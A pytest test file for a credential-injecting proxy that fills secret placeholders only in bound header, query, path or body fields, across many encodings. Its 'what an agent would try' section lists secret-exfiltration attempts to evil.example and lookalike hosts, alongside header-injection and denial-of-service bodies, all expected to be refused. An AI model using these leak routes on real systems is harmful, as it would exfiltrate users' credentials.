"""Placeholders become secrets in the one place that they are bound to, in that place's own spelling, and nowhere else."""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import json
import secrets
import time
import zlib
from collections.abc import Callable
from urllib.parse import parse_qs, quote, unquote
from xml.etree import ElementTree

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from warden.dialects.body.protobuf import field as protobuf_field
from warden.errors import CredentialError
from warden.model import HttpRequest
from warden.redact.outgoing import Watch, substitute, wants_body
from warden.redact.vault import Binding, Entry, Vault

HOST, PATH = "api.example.com", "/v1/things"
#: A secret with whatever its formats must escape, and one with no character of any meaning.
AWKWARD = "p&s<w>'\"\\ =+/%:#{é}" + secrets.token_urlsafe(12)
PLAIN = secrets.token_hex(20)


def bound(secret: str | bytes, *fields: str, hosts: tuple[str, ...] = (HOST,), paths: tuple[str, ...] = ()) -> tuple[Vault, Entry, str]:
    vault = Vault()
    raw = secret.encode() if isinstance(secret, str) else secret
    entry = vault.admit(raw, binding=Binding(hosts, fields, paths) if fields else ())
    return vault, entry, entry.placeholder.decode()


def request(
    target: str = PATH, headers: tuple[tuple[str, str], ...] = (), body: bytes | None = b"", *, host: str = HOST, scheme: str = "https"
) -> HttpRequest:
    length = None if body is None else len(body)
    fields = (("Host", host), *headers, *((("Content-Length", str(length)),) if body else ()))
    return HttpRequest("POST", scheme, host, 443, target, fields, body, length)


def with_body(kind: str, body: bytes, *more: tuple[str, str]) -> HttpRequest:
    return request(headers=(("Content-Type", kind), *more), body=body)


# --- heads -----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "name", "form"),
    [
        ("bearer", "Authorization", "Bearer {}"),
        ("authorization", "authorization", "Bearer {}"),
        ("authorization", "Authorization", "token {}"),
        ("authorization", "Authorization", "Token token={}"),
        ("header:x-api-key", "X-Api-Key", "{}"),
        ("header:Authorization", "Authorization", "{}"),
        ("header:cookie", "Cookie", "a=b; session={}; c=d"),
    ],
)
def test_a_header_that_is_bound(field: str, name: str, form: str) -> None:
    vault, entry, made = bound(PLAIN, field)
    sent = substitute(request(headers=((name, form.format(made)), ("Accept", "*/*"))), vault)
    assert sent.headers == (("Host", HOST), (name, form.format(PLAIN)), ("Accept", "*/*"))
    assert entry.receivers == {HOST}
    # From here on that host's answers are watched for it.
    assert [one.entry for one in vault.secrets_in(PLAIN.encode(), HOST)] == [entry]


@pytest.mark.parametrize("pair", ["{}:", "user:{}", "x-access-token:{}", "{}"])
@pytest.mark.parametrize("field", ["basic", "authorization"])
def test_basic_is_opened_and_closed_again(pair: str, field: str) -> None:
    vault, _, made = bound(PLAIN, field)
    sent = substitute(request(headers=(("Authorization", "Basic " + base64.b64encode(pair.format(made).encode()).decode()),)), vault)
    value = sent.header("authorization")
    assert value is not None
    assert base64.b64decode(value.removeprefix("Basic ")).decode() == pair.format(PLAIN)


def test_a_query_parameter_that_is_bound_is_percent_encoded() -> None:
    vault, _, made = bound(AWKWARD, "query:key")
    sent = substitute(request(f"{PATH}?a=b+c&key={made}&d=%20e"), vault)
    assert sent.target == f"{PATH}?a=b+c&key={quote(AWKWARD, safe='')}&d=%20e"
    assert parse_qs(sent.target.partition("?")[2])["key"] == [AWKWARD]


def test_a_path_that_is_bound() -> None:
    vault, _, made = bound(AWKWARD, "path")
    sent = substitute(request(f"/bot{made}/send?x=1"), vault)
    assert sent.target == f"/bot{quote(AWKWARD, safe='')}/send?x=1"
    assert unquote(sent.target.split("/")[1]) == "bot" + AWKWARD


# --- bodies ----------------------------------------------------------------------------------------------------------------------


def form(body: bytes) -> object:
    return parse_qs(body.decode(), keep_blank_values=True)["v"][0]


def xml(body: bytes) -> object:
    root = ElementTree.fromstring(body)
    assert root.attrib["a"] == root.text
    return root.text


def parts(body: bytes) -> object:
    return body.split(b"\r\n\r\n", 1)[1].rsplit(b"\r\n--X--", 1)[0].decode()


#: Content type, the body around a placeholder, and what a server reads in the body that it gets.
FORMATS: dict[str, tuple[str, Callable[[str], bytes], Callable[[bytes], object]]] = {
    "json": ("application/json", lambda s: json.dumps({"a": 1, "v": s}).encode(), lambda b: json.loads(b)["v"]),
    "json without a type": ("", lambda s: json.dumps([{"v": s}]).encode(), lambda b: json.loads(b)[0]["v"]),
    "json in a string": (
        "application/json",
        lambda s: json.dumps({"v": json.dumps({"w": s})}).encode(),
        lambda b: json.loads(json.loads(b)["v"])["w"],
    ),
    "json in json in json": (
        "application/json",
        lambda s: json.dumps([json.dumps([json.dumps([s])])]).encode(),
        lambda b: json.loads(json.loads(json.loads(b)[0])[0])[0],
    ),
    "json lines": (
        "application/x-ndjson",
        lambda s: b'{"index": {}}\n' + json.dumps({"v": s}).encode() + b"\n",
        lambda b: json.loads(b.splitlines()[1])["v"],
    ),
    "base64 in json": (
        "application/json",
        lambda s: json.dumps({"data": {"p": base64.b64encode(s.encode()).decode()}}).encode(),
        lambda b: base64.b64decode(json.loads(b)["data"]["p"], validate=True).decode(),
    ),
    "base64 of base64 of json in json": (
        "application/json",
        lambda s: json.dumps({"data": base64.b64encode(base64.b64encode(json.dumps({"x": s}).encode())).decode()}).encode(),
        lambda b: json.loads(base64.b64decode(base64.b64decode(json.loads(b)["data"])))["x"],
    ),
    "form": ("application/x-www-form-urlencoded; charset=utf-8", lambda s: f"a=b+c&v={quote(s)}&d=".encode(), form),
    "xml": ("text/xml", lambda s: f'<r a="{s}">{s}</r>'.encode(), xml),
    "yaml": ("application/yaml", lambda s: f"a: 1 # {'x' * 5}\nv: {s}\nw: [1, 2]\n".encode(), lambda b: yaml.safe_load(b)["v"]),
    "yaml block": (
        "application/apply-patch+yaml",
        lambda s: f"v: |\n  one\n  {s}\nw: 2\n".encode(),
        lambda b: (lambda d: d["v"].splitlines()[1] if d["w"] == 2 else None)(yaml.safe_load(b)),
    ),
    "text": ("text/plain", lambda s: f"password: {s}\n".encode(), lambda b: b.decode().removeprefix("password: ").removesuffix("\n")),
    "multipart": (
        'multipart/form-data; boundary="X"',
        lambda s: f'--X\r\nContent-Disposition: form-data; name="v"\r\n\r\n{s}\r\n--X--\r\n'.encode(),
        parts,
    ),
    "hex": ("text/plain", lambda s: s.encode().hex().encode(), lambda b: bytes.fromhex(b.decode()).decode()),
    "utf-16": ("text/plain; charset=utf-16", lambda s: s.encode("utf-16-le"), lambda b: b.decode("utf-16-le")),
}


@pytest.mark.parametrize("secret", [AWKWARD, PLAIN], ids=["awkward", "plain"])
@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("packed", ["", "gzip", "deflate"])
def test_a_body_is_filled_in_its_own_spelling(name: str, secret: str, packed: str) -> None:
    kind, write, read = FORMATS[name]
    vault, _, made = bound(secret, "body")
    body = write(made)
    packers: dict[str, Callable[[bytes], bytes]] = {"gzip": gzip.compress, "deflate": zlib.compress}
    unpackers: dict[str, Callable[[bytes], bytes]] = {"gzip": gzip.decompress, "deflate": zlib.decompress}
    pack, unpack = packers.get(packed, bytes), unpackers.get(packed, bytes)
    sent = substitute(with_body(kind, pack(body), *((("Content-Encoding", packed),) if packed else ())), vault)
    assert sent.body is not None
    assert read(unpack(sent.body)) == secret
    assert made.encode() not in unpack(sent.body)
    assert sent.header("content-length") == str(len(sent.body))
    assert sent.body_length == len(sent.body)


@pytest.mark.parametrize("lead", [b"", b"x", b"xy", b"xyz"])
@pytest.mark.parametrize("encode", [base64.b64encode, base64.urlsafe_b64encode, lambda b: base64.b64encode(b).rstrip(b"=")])
@pytest.mark.parametrize("around", [b"", b"/", b"ab/", b"abc/"])
def test_base64_at_every_alignment(lead: bytes, encode: Callable[[bytes], bytes], around: bytes) -> None:
    vault, _, made = bound(PLAIN, "body")
    run = encode(lead + made.encode() + b"?>~")
    sent = substitute(with_body("text/plain", b"see: " + around + run + b" ."), vault)
    assert sent.body == b"see: " + around + encode(lead + PLAIN.encode() + b"?>~") + b" ."


def test_base64_in_lines_keeps_its_lines() -> None:
    vault, _, made = bound(PLAIN, "body")
    inner = secrets.token_bytes(100)
    sent = substitute(with_body("text/plain", base64.encodebytes(inner + made.encode() + inner)), vault)
    assert sent.body == base64.encodebytes(inner + PLAIN.encode() + inner)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=8,
    ),
    st.sampled_from([None, 1, "\t"]),
    st.booleans(),
)
@settings(max_examples=200, deadline=None)
def test_nothing_else_of_a_json_body_changes(document: object, indent: int | str | None, ascii_only: bool) -> None:
    vault, _, made = bound(AWKWARD, "body")
    text = json.dumps({"before": document, "v": made, "after": document}, indent=indent, ensure_ascii=ascii_only)
    sent = substitute(with_body("application/json", text.encode()), vault)
    assert sent.body == text.replace(json.dumps(made), json.dumps(AWKWARD)).encode()


def test_only_the_bound_value_of_a_json_body() -> None:
    vault, _, made = bound(PLAIN, "json:data", "json:metadata.annotations.example\\.com/last")
    document: object
    for document in (
        {"data": {"p": made}},
        {"data": [{"deep": made}]},
        {"data": made},
        {"metadata": {"annotations": {"example.com/last": json.dumps({"data": made})}}},
    ):
        sent = substitute(with_body("application/json", json.dumps(document).encode()), vault)
        assert PLAIN.encode() in (sent.body or b"")
    for document in (
        {"metadata": {"name": made}},
        {"metadata": {"data": made}},
        {"database": made},
        {"DATA": {"p": made}},
        {"data.p": made},
        {"data": {made: "as a key"}},
        {"data": {"p": "x"}, "other": made},
        [{"data": made}],
        {"metadata": {"annotations": {"other": made}}},
        {"metadata": {"annotations": {"example": {"com/last": made}}}},
        {"note": json.dumps({"data": made})},
    ):
        with pytest.raises(CredentialError, match="placeholder of a secret"):
            substitute(with_body("application/json", json.dumps(document).encode()), vault)


def test_a_yaml_alias_takes_nothing_to_another_key() -> None:
    vault, _, made = bound(PLAIN, "json:data")
    assert PLAIN.encode() in (substitute(with_body("application/yaml", f"data: {{p: {made}}}".encode()), vault).body or b"")
    with pytest.raises(CredentialError):
        substitute(with_body("application/yaml", f"data: &a {{p: {made}}}\nmetadata: {{annotations: *a}}\n".encode()), vault)


def test_a_form_field_that_is_bound() -> None:
    vault, _, made = bound(AWKWARD, "form:client_secret")
    kind = "application/x-www-form-urlencoded"
    sent = substitute(with_body(kind, f"client_secret={made}&grant_type=x".encode()), vault)
    assert parse_qs((sent.body or b"").decode())["client_secret"] == [AWKWARD]
    for body in (f"other={made}", f"{made}=client_secret", f"client_secret={made}&state={made}"):
        with pytest.raises(CredentialError):
            substitute(with_body(kind, body.encode()), vault)


def test_a_checksum_of_the_body_is_of_the_new_body() -> None:
    vault, _, made = bound(PLAIN, "body")
    body = f"v={made}".encode()
    old = base64.b64encode(hashlib.md5(body).digest()).decode()
    sent = substitute(with_body("text/plain", body, ("Content-MD5", old)), vault)
    assert sent.header("content-md5") == base64.b64encode(hashlib.md5(f"v={PLAIN}".encode()).digest()).decode()


def test_a_binary_secret_goes_back_in_base64_and_not_as_text() -> None:
    secret = b"\xff\xfe" + secrets.token_bytes(40)
    vault, _, made = bound(secret, "body")
    sent = substitute(with_body("application/json", json.dumps({"d": base64.b64encode(made.encode()).decode()}).encode()), vault)
    assert base64.b64decode(json.loads(sent.body or b"")["d"]) == secret
    with pytest.raises(CredentialError, match="none can be replaced"):
        substitute(with_body("application/json", json.dumps({"d": made}).encode()), vault)


# --- what an agent would try -----------------------------------------------------------------------------------------------------


def _attempts(made: str) -> dict[str, HttpRequest]:
    """Requests that would bring the secret of a placeholder, bound to Authorization: Bearer at HOST, where it must not go."""
    packed, key = base64.b64encode(made.encode()).decode(), ("Authorization", f"Bearer {made}")
    twice = quote("".join(f"%{ord(letter):02x}" for letter in made))
    return {
        "another host": request(headers=(key,), host="evil.example"),
        "a host that ends alike": request(headers=(key,), host=f"evil{HOST}"),
        "a host that begins alike": request(headers=(key,), host=f"{HOST}.evil.example"),
        "plain http": request(headers=(key,), scheme="http"),
        "another header": request(headers=(("X-Note", made),)),
        "another header beside it": request(headers=(key, ("X-Note", made))),
        "referer": request(headers=(("Referer", f"https://{HOST}/?t={made}"),)),
        "cookie": request(headers=(("Cookie", f"a={made}"),)),
        "another scheme": request(headers=(("Authorization", f"Digest {made}"),)),
        "basic": request(headers=(("Authorization", f"Basic {base64.b64encode(f'u:{made}'.encode()).decode()}"),)),
        "with text before it": request(headers=(("Authorization", f"Bearer x{made}"),)),
        "with text after it": request(headers=(("Authorization", f"Bearer {made}.evil"),)),
        "in base64": request(headers=(("Authorization", f"Bearer {packed}"),)),
        "in json": request(headers=(("Authorization", f'Bearer {{"a":"{made}"}}'),)),
        "the name of a header": request(headers=((made, "1"),)),
        "path": request(f"/{made}"),
        "path, percent-encoded": request("/" + "".join(f"%{ord(letter):02x}" for letter in made)),
        "path, twice encoded": request("/" + twice),
        "query": request(f"/?redirect=https://evil.example/{made}"),
        "query, twice encoded": request("/?a=" + twice),
        "query, base64": request("/?a=" + packed),
        "the name of a parameter": request(f"/?{made}=1"),
        "json": with_body("application/json", json.dumps({"a": made}).encode()),
        "json, base64": with_body("application/json", json.dumps({"a": packed}).encode()),
        "form": with_body("application/x-www-form-urlencoded", f"a={made}".encode()),
        "gzip": with_body("text/plain", gzip.compress(made.encode()), ("Content-Encoding", "gzip")),
        "multipart": with_body("multipart/mixed; boundary=X", f"--X\r\n\r\n{made}\r\n--X--".encode()),
        "the head of a part": with_body("multipart/mixed; boundary=X", f"--X\r\nA: {made}\r\n\r\n\r\n--X--".encode()),
        "grpc": with_body("application/grpc", b"\0\0\0\0\x20" + made.encode()),
        "protobuf": with_body("application/vnd.kubernetes.protobuf", b"k8s\0" + made.encode()),
    }


@pytest.mark.parametrize("name", _attempts("x"))
def test_a_placeholder_elsewhere_is_refused_and_no_secret_is_in_the_refusal(name: str) -> None:
    vault, entry, made = bound(PLAIN, "bearer")
    with pytest.raises(CredentialError) as raised:
        substitute(_attempts(made)[name], vault)
    assert raised.value.code in ("placeholder-elsewhere", "secret-over-http")
    assert PLAIN not in str(raised.value)
    if raised.value.code == "placeholder-elsewhere" and name != "the name of a header":
        assert f"{HOST} (bearer)" in raised.value.advice
    assert entry.receivers == set()


def test_what_is_not_recognized_is_still_no_secret() -> None:
    """Split, reversed, in another compression, cut: whatever an agent does to a placeholder, it stays the placeholder."""
    vault, _, made = bound(PLAIN, "bearer", "body", "query:q")
    half = len(made) // 2
    for sent in (
        request(headers=(("A", made[:half]), ("B", made[half:]))),
        request(f"/?q={made[::-1]}"),
        request(headers=(("Content-Encoding", "br"),), body=b"\x1b" + made.encode()),
        request(body=zlib.compress(made.encode())),
        request(body=made.swapcase().encode()),
        request(headers=(("Content-Encoding", "gzip"),), body=gzip.compress(made.encode())[:-4]),
    ):
        assert substitute(sent, vault) is sent


def test_a_secret_that_would_break_a_header_is_not_sent() -> None:
    vault, _, made = bound("first\r\nX-Admin: 1\r\n" + PLAIN, "bearer", "body")
    with pytest.raises(CredentialError) as raised:
        substitute(request(headers=(("Authorization", f"Bearer {made}"),)), vault)
    assert raised.value.code == "secret-unsendable"
    sent = substitute(with_body("application/json", json.dumps({"v": made}).encode()), vault)
    assert json.loads(sent.body or b"")["v"].endswith(PLAIN)
    vault, _, made = bound("user:" + PLAIN, "basic")
    with pytest.raises(CredentialError, match="colon"):
        substitute(request(headers=(("Authorization", f"Basic {base64.b64encode(f'{made}:x'.encode()).decode()}"),)), vault)


def test_only_the_paths_that_are_bound() -> None:
    vault, _, made = bound(PLAIN, "body", paths=("/api/v1/namespaces/*/secrets", "/api/v1/namespaces/*/secrets/*"))
    body = json.dumps({"v": made}).encode()
    for path in ("/api/v1/namespaces/a/secrets", "/api/v1/namespaces/a/secrets/b?fieldManager=x"):
        assert PLAIN.encode() in (substitute(request(path, body=body), vault).body or b"")
    for path in ("/api/v1/namespaces/a/configmaps/secrets", "/api/v1/namespaces/a/pods/b/secrets/c", "/api/v1/secrets", "/"):
        with pytest.raises(CredentialError):
            substitute(request(path, body=body), vault)


@pytest.mark.parametrize("host", ["api.anthropic.com", "api.openai.com", "bedrock-runtime.eu-west-1.amazonaws.com", "llm.corp.example"])
def test_a_transcript_quotes_placeholders_and_gets_no_secret(host: str) -> None:
    vault, _, made = bound(PLAIN, "header:x-api-key", hosts=(host,))
    other = vault.admit(secrets.token_urlsafe(30).encode()).placeholder.decode()
    body = json.dumps({"messages": [{"role": "user", "content": f"env says {made} and {other}"}]}).encode()
    asked = request(headers=(("x-api-key", made), ("Content-Type", "application/json")), body=body, host=host)
    sent = substitute(asked, vault, ("llm.corp.*",))
    assert sent.header("x-api-key") == PLAIN
    assert sent.body == body
    with pytest.raises(CredentialError):
        substitute(request(headers=(("x-api-key", other),), host=host), vault, ("llm.corp.*",))


def test_a_dummy_that_its_broker_looks_after_passes_as_it_is() -> None:
    vault = Vault()
    entry = vault.admit(PLAIN.encode(), stand_in=b"AKIADUMMYDUMMYDUMMY1", binding=Binding(("*.amazonaws.com",), ()))
    signed = request(headers=(("Authorization", "AWS4-HMAC-SHA256 Credential=AKIADUMMYDUMMYDUMMY1/20260101/x"),), host="ec2.amazonaws.com")
    assert substitute(signed, vault) is signed
    assert entry.receivers == set()
    with pytest.raises(CredentialError):
        substitute(request(headers=signed.headers, host="evil.example"), vault)


def test_without_placeholders_the_very_request_is_sent_on() -> None:
    vault, _, _ = bound(PLAIN, "body")
    asked = with_body("application/json", json.dumps({"a": ["%41", "x" * 100, {"b": None}]}).encode())
    assert substitute(asked, vault) is asked
    assert substitute(asked, Vault()) is asked


def test_a_body_is_wanted_where_a_secret_may_go_into_it() -> None:
    for field, wanted in (("bearer", False), ("body", True), ("json:data", True), ("form:a", True)):
        vault, _, _ = bound(PLAIN, field)
        assert wants_body(request(body=None), vault) is wanted
        assert wants_body(request(body=None, host="other.example"), vault) is False
        grpc = request(headers=(("Content-Type", "application/grpc+proto"),), body=None)
        assert wants_body(grpc, vault) is False
    # What is small is read to be refused in words; a transcript is not.
    assert wants_body(request(body=b"x" * 1000), vault)
    assert not wants_body(request(body=b"x" * 1000, host="api.openai.com"), vault)
    assert not wants_body(request(body=b"x" * 1000), Vault())


@pytest.mark.parametrize(
    "hostile",
    [
        b"A/" * 1_000_000 + b"-",
        b"A/-" * 700_000,
        b"-_+/" * 500_000,
        b"%41" * 500_000,
        b"&a=b" * 500_000,
        b'["' + b'","' * 500_000 + b'"]',
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"\n" * 1_000_000,
        b"{[" * 200_000,
        b"&a;" * 500_000,
        b"A" * 2_000_000,
        (b"A" * 76 + b"\n") * 20_000,
        base64.b64encode(base64.b64encode(base64.b64encode(b"x" * 600_000))),
        b"--X\r\n\r\n" * 100_000,
    ],
    ids=range(15),
)
@pytest.mark.parametrize(
    "kind", ["", "application/x-www-form-urlencoded", "application/yaml", "text/xml", "multipart/form-data; boundary=X"]
)
def test_a_hostile_body_takes_no_time(hostile: bytes, kind: str) -> None:
    """Each with a placeholder at its end, so that all of it is taken apart. Seconds at most, on a busy machine: quadratic ones take hours."""
    vault, _, made = bound(PLAIN, "body")
    started = time.process_time()
    with contextlib.suppress(CredentialError):
        substitute(with_body(kind, hostile + b" " + made.encode()), vault)
    assert time.process_time() - started < 20


@pytest.mark.parametrize("size", [1, 7, 64, 4096])
def test_a_placeholder_in_a_passing_body_is_seen_across_pieces(size: int) -> None:
    vault, _, made = bound(PLAIN, "bearer")
    for text in (made.encode(), base64.b64encode(b"xy" + made.encode() + b"z")):
        stream = secrets.token_bytes(300) + b" " + text + b" " + secrets.token_bytes(300)
        watch = Watch(vault)
        seen = [watch.feed(stream[at : at + size]) for at in range(0, len(stream), size)]
        assert seen.count(True) == 1
    assert not any(Watch(vault).feed(secrets.token_bytes(5000)) for _ in range(3))


def _in_chunks(payload: bytes, size: int, name: str, total: bytes) -> bytes:
    pieces = [payload[at : at + size] for at in range(0, len(payload), size)]
    return (
        b"".join(b"%x\r\n%s\r\n" % (len(one), one) for one in pieces)
        + b"0\r\n"
        + f"{name}:".encode()
        + base64.b64encode(total)
        + b"\r\n\r\n"
    )


@pytest.mark.parametrize("size", [7, 1000])
def test_an_upload_in_chunks_is_put_together_again(size: int) -> None:
    vault, _, made = bound(PLAIN, "body")
    old, new = (b"x" * 50 + value.encode() + b"y" for value in (made, PLAIN))
    body = _in_chunks(old, size, "x-amz-checksum-crc32", zlib.crc32(old).to_bytes(4))
    head = (("Content-Encoding", "aws-chunked"), ("X-Amz-Decoded-Content-Length", str(len(old))))
    sent = substitute(with_body("application/octet-stream", body, *head), vault)
    assert sent.body == _in_chunks(new, len(new), "x-amz-checksum-crc32", zlib.crc32(new).to_bytes(4))
    assert sent.header("x-amz-decoded-content-length") == str(len(new))
    assert sent.header("content-length") == str(len(sent.body or b""))


def test_an_upload_in_chunks_that_cannot_be_put_together_is_refused() -> None:
    vault, _, made = bound(PLAIN, "body")
    head = ("Content-Encoding", "aws-chunked")
    for body in (
        _in_chunks(made.encode(), 1000, "x-amz-checksum-crc64nvme", b"12345678"),
        b"1c;chunk-signature=0\r\n" + made.encode() + b"\r\n0;chunk-signature=0\r\n\r\n",
    ):
        with pytest.raises(CredentialError) as raised:
            substitute(with_body("application/octet-stream", body, head), vault)
        assert raised.value.code == "placeholder-encoded"


# --- a Secret in protobuf ----------------------------------------------------------------------------------------------------------

KUBERNETES = "application/vnd.kubernetes.protobuf"
SECRET_FIELDS = ("json:data", "json:stringData")


def secret_message(
    data: dict[str, str], strings: dict[str, str] | None = None, *, kind: str = "Secret", note: str = "", more: bytes = b""
) -> bytes:
    """What ``kubectl create secret`` sends."""
    pairs = [
        protobuf_field(number, protobuf_field(1, key) + protobuf_field(2, value))
        for number, map_ in ((2, data), (4, strings or {}))
        for key, value in map_.items()
    ]
    meta = (
        protobuf_field(1, "name")
        + protobuf_field(3, "shop")
        + (protobuf_field(12, protobuf_field(1, "note") + protobuf_field(2, note)) if note else b"")
    )
    raw = protobuf_field(1, meta) + b"".join(pairs) + protobuf_field(3, "Opaque")
    return b"k8s\0" + protobuf_field(1, protobuf_field(1, "v1") + protobuf_field(2, kind)) + protobuf_field(2, raw) + more


@pytest.mark.parametrize("secret", [PLAIN, AWKWARD, "x" * 200 + PLAIN], ids=["plain", "awkward", "long"])
def test_the_values_of_a_secret_in_protobuf_are_filled_and_their_lengths_fit(secret: str) -> None:
    vault, _, made = bound(secret, *SECRET_FIELDS)
    sent = substitute(with_body(KUBERNETES, secret_message({"a": made, "b": "plain"}, {"c": f"url://{made}@h"})), vault)
    assert sent.body == secret_message({"a": secret, "b": "plain"}, {"c": f"url://{secret}@h"})
    assert ("Content-Length", str(len(sent.body or b""))) in sent.headers
    assert wants_body(with_body(KUBERNETES, b""), vault)


@pytest.mark.parametrize(
    "body",
    [
        lambda made: secret_message({}, note=made),
        lambda made: secret_message({made: "x"}),
        lambda made: secret_message({"a": made}, kind="ConfigMap"),
        lambda made: secret_message({"a": made}, more=protobuf_field(3, "gzip")),
        lambda made: secret_message({"a": made})[:-3],
        lambda made: secret_message({"a": made})[:4] + protobuf_field(1, protobuf_field(2, "Secret")) + secret_message({"a": made})[4:],
    ],
    ids=["an annotation", "a key", "another kind", "an encoding", "cut off", "two types"],
)
def test_elsewhere_in_it_a_placeholder_is_refused(body: Callable[[str], bytes]) -> None:
    vault, _, made = bound(PLAIN, *SECRET_FIELDS)
    with pytest.raises(CredentialError) as raised:
        substitute(with_body(KUBERNETES, body(made)), vault)
    assert raised.value.code == "placeholder-elsewhere"
